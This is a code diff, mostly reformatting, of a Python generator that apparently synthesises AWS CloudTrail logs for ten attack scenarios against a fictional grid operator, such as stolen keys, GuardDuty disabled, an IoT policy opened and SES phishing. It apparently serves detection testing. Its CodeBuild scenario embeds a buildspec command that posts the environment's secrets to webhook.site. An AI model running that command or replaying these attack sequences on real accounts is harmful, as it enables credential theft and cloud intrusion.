@@ -19,9 +19,18 @@ ATTACKER_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KH
 
 
 def seq(
-    d: Day, ident: Record, steps: Sequence[str | tuple[str, Record | None, tuple[str, str] | None]], *,
-    account: str, ip: str, ua: str, start: dt.datetime, gap: float = 20.0, region: str = _org.CA,
-    bucket: tuple[str, str] | None = None, console: bool = False,
+    d: Day,
+    ident: Record,
+    steps: Sequence[str | tuple[str, Record | None, tuple[str, str] | None]],
+    *,
+    account: str,
+    ip: str,
+    ua: str,
+    start: dt.datetime,
+    gap: float = 20.0,
+    region: str = _org.CA,
+    bucket: tuple[str, str] | None = None,
+    console: bool = False,
 ) -> list[Record]:
     """The calls of ``steps`` in order, ``gap`` seconds apart (with jitter); a step is an API or
     (API, request parameters, error)."""
@@ -59,13 +68,33 @@ def a1_gateway_cert(d: Day) -> list[Record]:
     t = d.at(15.3)
     serial = _keys.cert_serial(d.seed, unit, False)
     k = _trail.key(r)
-    mint = _trail.minted(r, t, w.minter, w.account, w.region, w.role, serial, k, source_identity=f"CN={unit}.ot.{_org.DOMAIN}")
+    mint = _trail.minted(
+        r,
+        t,
+        w.minter,
+        w.account,
+        w.region,
+        w.role,
+        serial,
+        k,
+        source_identity=f"CN={unit}.ot.{_org.DOMAIN}",
+    )
     d.out.append(mint)
-    ident = _trail.assumed(w.account, w.role, serial, k, t, source_identity=f"CN={unit}.ot.{_org.DOMAIN}")
+    ident = _trail.assumed(
+        w.account, w.role, serial, k, t, source_identity=f"CN={unit}.ot.{_org.DOMAIN}"
+    )
     evs = seq(d, ident, ["sts:GetCallerIdentity", "s3:ListBuckets", "kinesis:ListStreams", "iot:ListThings", "iot:ListPolicies",
                          ("s3:ListObjectsV2", None, ("AccessDenied", "Access Denied")), "kinesis:DescribeStream", "iot:ListCertificates"],
               account=w.account, ip=ip, ua=KALI, start=t + dt.timedelta(seconds=40), bucket=BUCKETS["historian"])  # fmt: skip
-    return [row("A1", "Roles Anywhere certificate stolen from a substation gateway, used from Vultr", [mint, *evs], key=k, ip=ip)]
+    return [
+        row(
+            "A1",
+            "Roles Anywhere certificate stolen from a substation gateway, used from Vultr",
+            [mint, *evs],
+            key=k,
+            ip=ip,
+        )
+    ]
 
 
 def a2_leaked_user_key(d: Day) -> list[Record]:
@@ -76,12 +105,22 @@ def a2_leaked_user_key(d: Day) -> list[Record]:
     k = _background.legacy_key(d.seed, name)
     ident = _trail.user(acct, name, k)
     ip1, ip2 = _org.NETS["ovh"].at(301), _org.NETS["ovh"].at(1302)
-    evs = seq(d, ident, ["sts:GetCallerIdentity"], account=acct, ip=ip1, ua=TRUFFLEHOG, start=d.at(9.2))
+    evs = seq(
+        d, ident, ["sts:GetCallerIdentity"], account=acct, ip=ip1, ua=TRUFFLEHOG, start=d.at(9.2)
+    )
     evs += seq(d, ident, ["s3:ListBuckets", "iam:ListAttachedUserPolicies", *["s3:ListObjectsV2"] * 12], account=acct, ip=ip2, ua=SCRIPT,
                start=d.at(9.9), gap=6, bucket=BUCKETS["historian"])  # fmt: skip
     evs += seq(d, ident, ["s3:GetObject"] * int(220 * max(d.scale, 0.25)), account=acct, ip=ip2, ua=SCRIPT, start=d.at(10.0), gap=9,
                bucket=BUCKETS["historian"])  # fmt: skip
-    return [row("A2", "legacy IAM user key leaked on a public repository: historian bucket listed and copied", evs, key=k, ip=f"{ip1} {ip2}")]
+    return [
+        row(
+            "A2",
+            "legacy IAM user key leaked on a public repository: historian bucket listed and copied",
+            evs,
+            key=k,
+            ip=f"{ip1} {ip2}",
+        )
+    ]
 
 
 def a3_delegated_admin(d: Day) -> list[Record]:
@@ -100,7 +139,15 @@ def a3_delegated_admin(d: Day) -> list[Record]:
         ("organizations:DeregisterDelegatedAdministrator", {"accountId": sec, "servicePrincipal": "config.amazonaws.com"}, None),
         ("organizations:DisableAWSServiceAccess", {"servicePrincipal": "guardduty.amazonaws.com"}, None),
     ], account=p.account, ip=ip, ua=ATTACKER_WIN, start=t + dt.timedelta(minutes=2), gap=35, console=True)  # fmt: skip
-    return [row("A3", "phished platform admin removes the delegated security administrator", evs, key=k, ip=ip)]
+    return [
+        row(
+            "A3",
+            "phished platform admin removes the delegated security administrator",
+            evs,
+            key=k,
+            ip=ip,
+        )
+    ]
 
 
 def a4_leave_org(d: Day) -> list[Record]:
@@ -116,7 +163,15 @@ def a4_leave_org(d: Day) -> list[Record]:
         ("organizations:LeaveOrganization", None, ("ConstraintViolationException", "The member account is missing one or more of the prerequisites required to operate as a standalone account.")),
         ("organizations:LeaveOrganization", None, None),
     ], account=acct, ip=ip, ua=KALI, start=d.at(3.2), gap=45)  # fmt: skip
-    return [row("A4", "member account disassociated from GuardDuty and leaves the organisation", evs, key=k, ip=ip)]
+    return [
+        row(
+            "A4",
+            "member account disassociated from GuardDuty and leaves the organisation",
+            evs,
+            key=k,
+            ip=ip,
+        )
+    ]
 
 
 def a5_notebook(d: Day) -> list[Record]:
@@ -126,9 +181,10 @@ def a5_notebook(d: Day) -> list[Record]:
     p, ip = person("a.nguyen"), _org.NETS["linode"].at(2231)
     r, t = d.rng("a5"), d.at(17.3)
     k1, ident1 = saml_session(d, r, p, t, ip, _org.SAML2AWS)
-    evs1 = [d.out[-1]] + seq(d, ident1, ["sagemaker:ListNotebookInstances",
+    sign_in = d.out[-1]
+    evs1 = [sign_in, *seq(d, ident1, ["sagemaker:ListNotebookInstances",
         ("sagemaker:CreatePresignedNotebookInstanceUrl", {"notebookInstanceName": "scada-analytics-nb"}, None)],
-        account=p.account, ip=ip, ua=KALI, start=t + dt.timedelta(seconds=30))  # fmt: skip
+        account=p.account, ip=ip, ua=KALI, start=t + dt.timedelta(seconds=30))]  # fmt: skip
     w = _keys.NOTEBOOK
     t2 = t + dt.timedelta(minutes=12)
     k2 = _keys.key_at(d.seed, w, w.units[0], t2)
@@ -149,12 +205,13 @@ def a6_iot_policy(d: Day) -> list[Record]:
     p, ip = person("j.okafor"), _org.NETS["vultr"].at(612)
     r, t = d.rng("a6"), d.at(20.6)
     k, ident = saml_session(d, r, p, t, ip, _org.SAML2AWS)
-    evs = [d.out[-1]] + seq(d, ident, [
+    sign_in = d.out[-1]
+    evs = [sign_in, *seq(d, ident, [
         "iot:ListPolicies", ("iot:GetPolicy", {"policyName": "smart-meter-policy"}, None),
         ("iot:CreatePolicyVersion", {"policyName": "smart-meter-policy", "policyDocument": POLICY, "setAsDefault": True}, None),
         "iot:ListTargetsForPolicy", ("iot:AttachPolicy", {"policyName": "smart-meter-policy", "target": "arn:aws:iot:ca-central-1:thinggroup/all-meters"}, None),
         "iot:ListThings",
-    ], account=p.account, ip=ip, ua=KALI, start=t + dt.timedelta(seconds=25), gap=40)  # fmt: skip
+    ], account=p.account, ip=ip, ua=KALI, start=t + dt.timedelta(seconds=25), gap=40)]  # fmt: skip
     return [row("A6", "IoT policy opened to any client from a phished session", evs, key=k, ip=ip)]
 
 
@@ -165,7 +222,12 @@ def a7_codebuild(d: Day) -> list[Record]:
     ip = _org.NETS["digitalocean"].at(77)
     k = _background.legacy_key(d.seed, name)
     ident = _trail.user(acct, name, k)
-    spec = {"name": "grid-deploy", "source": {"buildspec": "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s -d \"$(env)\" https://webhook.site/..."}}
+    spec = {
+        "name": "grid-deploy",
+        "source": {
+            "buildspec": 'version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s -d "$(env)" https://webhook.site/...'
+        },
+    }
     evs = seq(d, ident, ["codebuild:ListProjects", ("codebuild:BatchGetProjects", {"names": ["grid-deploy"]}, None),
                          ("codebuild:UpdateProject", spec, None), ("codebuild:StartBuild", {"projectName": "grid-deploy"}, None),
                          "codebuild:BatchGetBuilds"], account=acct, ip=ip, ua=SCRIPT, start=d.at(14.1), gap=30)  # fmt: skip
@@ -180,11 +242,12 @@ def a8_serial_console(d: Day) -> list[Record]:
     r, t = d.rng("a8"), d.at(18.5)
     k, ident = saml_session(d, r, p, t, ip, _org.SAML2AWS)
     inst = _keys.ETL.units[0]
-    evs = [d.out[-1]] + seq(d, ident, [
+    sign_in = d.out[-1]
+    evs = [sign_in, *seq(d, ident, [
         "ec2:DescribeInstances", "ec2:GetSerialConsoleAccessStatus",
         ("ec2ic:SendSerialConsoleSSHPublicKey", {"instanceId": inst, "serialPort": 0}, None),
         ("ssm:StartSession", {"target": inst}, None), "ssm:DescribeInstanceInformation",
-    ], account=p.account, ip=ip, ua=KALI, start=t + dt.timedelta(seconds=30), gap=50)  # fmt: skip
+    ], account=p.account, ip=ip, ua=KALI, start=t + dt.timedelta(seconds=30), gap=50)]  # fmt: skip
     return [row("A8", "EC2 serial console and SSM session from a new network", evs, key=k, ip=ip)]
 
 
@@ -200,7 +263,15 @@ def a9_ses_phishing(d: Day) -> list[Record]:
                          ("ses:VerifyDomainIdentity", {"domain": "borealis-grid-billing.com"}, None),
                          ("ses:VerifyEmailIdentity", {"emailAddress": "billing@borealis-grid-billing.com"}, None), *send],
               account=w.account, ip=ip, ua=SCRIPT, start=t, gap=60)  # fmt: skip
-    return [row("A9", "new account: instance credentials used from Linode to verify SES identities and send mail", evs, key=k, ip=ip)]
+    return [
+        row(
+            "A9",
+            "new account: instance credentials used from Linode to verify SES identities and send mail",
+            evs,
+            key=k,
+            ip=ip,
+        )
+    ]
 
 
 def a10_threat_list(d: Day) -> list[Record]:
@@ -210,7 +281,15 @@ def a10_threat_list(d: Day) -> list[Record]:
     ident = _trail.user(acct, name, k)
     evs = seq(d, ident, ["s3:ListObjectsV2", *["s3:GetObject"] * 30], account=acct, ip=ip, ua=_org.PI_ARCHIVE,
               start=d.at(16.0), gap=15, bucket=BUCKETS["historian"])  # fmt: skip
-    return [row("A10", "PI archive key used from a threat-list address (own client, usual calls)", evs, key=k, ip=ip)]
+    return [
+        row(
+            "A10",
+            "PI archive key used from a threat-list address (own client, usual calls)",
+            evs,
+            key=k,
+            ip=ip,
+        )
+    ]
 
 
 ATTACKS: dict[int, tuple[Callable[[Day], list[Record]], ...]] = {
